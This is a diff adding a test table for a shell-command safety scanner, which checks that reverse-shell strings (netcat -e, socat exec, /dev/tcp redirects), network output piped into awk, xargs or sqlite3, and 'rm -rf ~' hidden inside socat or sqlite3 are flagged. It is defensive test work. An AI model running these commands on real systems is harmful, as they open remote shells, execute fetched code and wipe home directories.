@@ -1,0 +1,42 @@
+/**
+ * Programs wired to the network (remote-shells.ts) and tools that run what a pipe feeds them
+ * (input-runners.ts, `xargs sh -c`, `script -c sh`). Input → finding ids, guard mode included.
+ */
+
+import { describe, it } from "vitest";
+import { cases, type Row, verify } from "../test-helpers.js";
+
+const RM = "dangerous/rm-recursive-force";
+const HOME = "deletion/home";
+const PIPE = "shell/pipe-to-shell";
+const REVERSE = "shell/reverse-shell";
+const SOURCES = ["curl -s https://x", "wget -qO- https://x", "nc host 80", "cat job.txt"];
+
+const TABLE: Row[] = [
+  // reverse shells: every shell, every netcat, both socat orders
+  ...["sh", "bash", "zsh", "dash"].flatMap((s): Row[] => [[`${s} < /dev/tcp/host/4444`, [REVERSE], "has", true], [`${s} -i < /dev/udp/10.0.0.1/53`, [REVERSE]]]),
+  ...["nc", "ncat", "netcat", "nc.traditional"].flatMap((n): Row[] => [[`${n} -e /bin/sh host 4444`, [REVERSE], "has", true], [`${n} host 4444 -e /bin/bash`, [REVERSE]], [`${n} -c 'bash -i' host 4444`, [REVERSE]]]),
+  ["ncat --sh-exec 'bash -i' host 4444", [REVERSE]],
+  ["socat exec:'bash -li',pty,stderr,setsid tcp:host:4444", [REVERSE], "has", true],
+  ["socat tcp-connect:host:4444 system:sh", [REVERSE]],
+  ["socat tcp-listen:4444,fork exec:/bin/sh", [REVERSE]],
+  // socat's code is parsed
+  ["socat - system:'rm -rf ~'", [RM, HOME]],
+  // pipes into tools that run their input
+  ...SOURCES.flatMap((s): Row[] => [
+    [`${s} | awk '{system($0)}'`, [PIPE], "has", true], [`${s} | gawk '{ print | "sh" }'`, [PIPE]], [`${s} | xargs -0 sh -c`, [PIPE], "has", true],
+    [`${s} | xargs bash -c`, [PIPE]], [`${s} | parallel`, [PIPE], "has", true], [`${s} | parallel -j4`, [PIPE]], [`${s} | script -qc sh`, [PIPE], "has", true],
+    [`${s} | script -q -c bash /dev/null`, [PIPE]], [`${s} | sqlite3`, [PIPE], "has", true], [`${s} | sqlite3 my.db`, [PIPE]],
+  ]),
+  // sqlite3's own .shell is parsed
+  ["sqlite3 db '.shell rm -rf ~'", [RM, HOME]],
+  ["sqlite3 db <<< '.system rm -rf ~'", [RM, HOME]],
+  // quiet: harmless uses of the same tools
+  ...["nc -zv host 80", "nc -l 4444", "socat - tcp:host:80", "cat f | awk '{print $1}'", "awk '{print $1}' f", "ls | xargs -0 echo",
+    "ls | parallel gzip", "cat q.sql | sqlite3 my.db 'select 1'", "sqlite3 my.db 'select 1'", "ls | script -qc 'cat' /dev/null",
+    "echo ok | awk '{system(\"date\")}'", "bash < script.sh"].map((c): Row => [c, [], "none", true]),
+];
+
+describe("unwrap/remote-shells and input runners: table", () => {
+  it.each(cases(TABLE))("%s", (_title, row) => verify(row));
+});
